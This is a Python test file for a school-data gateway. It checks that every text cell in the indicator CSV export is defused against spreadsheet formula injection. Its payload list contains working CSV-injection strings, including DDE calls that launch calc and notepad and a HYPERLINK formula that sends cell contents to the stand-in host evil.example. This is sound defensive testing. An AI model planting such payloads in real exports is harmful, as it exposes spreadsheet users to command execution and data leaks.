"""CSV formula injection in every CSV the gateway writes.

The gateway writes one CSV: the indicator tables (GET /indicators/<key>/<dimension>.csv,
gateway/web/insights/views.py csv_rows). Group labels come from source data (district and school
names sent by SIS feeds), so a feed could plant `=HYPERLINK(...)` in a school name. Every text cell
goes through adapters/base.defuse_csv_cell; numbers stay numbers. (Bulk export writes NDJSON, the
Ed-Fi and FHIR APIs JSON: no other CSV leaves the gateway — checked by grepping for csv writers.)
"""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from adapters.base import defuse_csv_cell

ROOT = Path(__file__).resolve().parent.parent
FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'", "-inf+1", "+-1"]
# a cell that a spreadsheet would evaluate: starts with = + - @ after optional tab/CR
LIVE = re.compile(r"^[\t\r]*[=+\-@]")


def _is_plain_number(v: str) -> bool:
    try:
        float(v)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("payload", FORMULAS)
def test_defuse_csv_cell_neutralises_formulas(payload):
    out = defuse_csv_cell(payload)
    assert not LIVE.match(out) or _is_plain_number(out), repr(out)
    assert out.endswith(payload.lstrip("'"))          # the text is kept, only prefixed


def test_numbers_stay_numbers():
    for v in ("-1", "+2.5", "-0.25", "12"):
        assert defuse_csv_cell(v) == v


def test_indicator_csv_rows_defuse_every_text_cell():
    from gateway.web.insights.views import csv_rows
    ind = {"title": "=HYPERLINK(\"http://evil.example\")", "columns": [("rate", "Rate %"), ("n", "Youth")]}
    table = {"title": "@District", "rows": [{"label": f, "cells": {"rate": f, "n": 12}} for f in FORMULAS],
             "total": {"label": "+Total", "cells": {"rate": 10.5, "n": 40}}}
    rows = csv_rows(ind, table)
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows(rows)
    parsed = list(csv.reader(io.StringIO(text.getvalue())))
    cells = [c for row in parsed[1:] for c in row]
    live = [c for c in cells if LIVE.match(c) and not _is_plain_number(c)]
    assert not live, live
    assert "12" in cells and "10.5" in cells


def test_no_other_csv_writer_serves_responses():
    """Every csv.writer / DictWriter outside the synthetic-feed generator is the indicator CSV.
    A new one fails this test until it defuses its cells and is added here."""
    writers = []
    for p in (ROOT / "gateway").rglob("*.py"):
        if "synth" in p.parts:
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text()):
            writers.append(p.relative_to(ROOT).as_posix())
    assert writers == ["gateway/web/insights/views.py"], writers
